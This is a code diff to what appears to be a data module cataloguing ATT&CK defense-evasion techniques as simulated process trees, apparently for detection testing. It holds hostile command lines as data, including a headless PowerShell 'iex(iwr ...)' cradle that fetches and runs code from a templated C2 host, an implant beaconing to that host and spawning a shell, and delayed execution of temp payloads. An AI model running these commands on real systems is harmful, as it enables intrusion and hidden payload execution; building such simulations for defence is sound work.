@@ -54,7 +54,10 @@ export const defenseEvasion3B = [
       ],
       { shell: "ps" },
     ),
-    v("conhost-headless", ["conhost.exe --headless powershell.exe -c iex(iwr http://{{c2}}/h)"]),
+    v("conhost-headless", [
+      { cmd: "conhost.exe --headless powershell.exe -c iex(iwr http://{{c2}}/h)", as: "con" },
+      { cmd: "powershell.exe -c iex(iwr http://{{c2}}/h)", parent: "con", net: [["{{c2}}", 80]] },
+    ]),
   ]),
   t("T1564.004", "NTFS file attributes", "Payloads stored in alternate data streams and run from them.", [
     v("type-to-ads", [
@@ -127,7 +130,8 @@ export const defenseEvasion3B = [
           parent: "@explorer",
           as: "w",
         },
-        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.exe", parent: "w" },
+        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.exe", parent: "w", as: "c" },
+        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c" },
       ],
       { shell: "none" },
     ),
@@ -155,7 +159,10 @@ export const defenseEvasion3B = [
     ],
   ),
   t("T1564.011", "Ignore process interrupts", "nohup-like detachment: start /b with no console.", [
-    v("start-b", ["cmd.exe /c start /b {{tmp}}\\{{rand}}.exe"]),
+    v("start-b", [
+      { cmd: "cmd.exe /c start /b {{tmp}}\\{{rand}}.exe", as: "c" },
+      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c", keep: true },
+    ]),
   ]),
   t(
     "T1564.012",
@@ -176,7 +183,8 @@ export const defenseEvasion3B = [
             files: ["C:\\Users\\Public\\{{name}}.exe"],
           },
           { cmd: "C:\\Users\\Public\\{{name}}.exe", as: "imp", net: [["{{c2}}", 443]] },
-          { cmd: "C:\\Windows\\System32\\cmd.exe /C {{$shell}}", parent: "imp" },
+          { cmd: "C:\\Windows\\System32\\cmd.exe /C {{$shell}}", parent: "imp", as: "c" },
+          { cmd: "{{$shell}}", parent: "c" },
         ],
         {
           shell: "ps",
@@ -298,9 +306,14 @@ export const defenseEvasion3B = [
   ]),
   t("T1678", "Delay execution", "Execution delayed with timeout/ping/Start-Sleep.", [
     v("timeout", ["timeout /t 300 /nobreak", "{{tmp}}\\{{rand}}.exe"]),
-    v("start-sleep", [{ ps: "Start-Sleep -Seconds 600; Start-Process $env:TEMP\\{{rand}}.exe" }], {
-      shell: "ps",
-    }),
+    v(
+      "start-sleep",
+      [
+        { ps: "Start-Sleep -Seconds 600; Start-Process $env:TEMP\\{{rand}}.exe" },
+        { cmd: "{{tmp}}\\{{rand}}.exe", delay: 600000 },
+      ],
+      { shell: "ps" },
+    ),
   ]),
   t(
     "T1679",
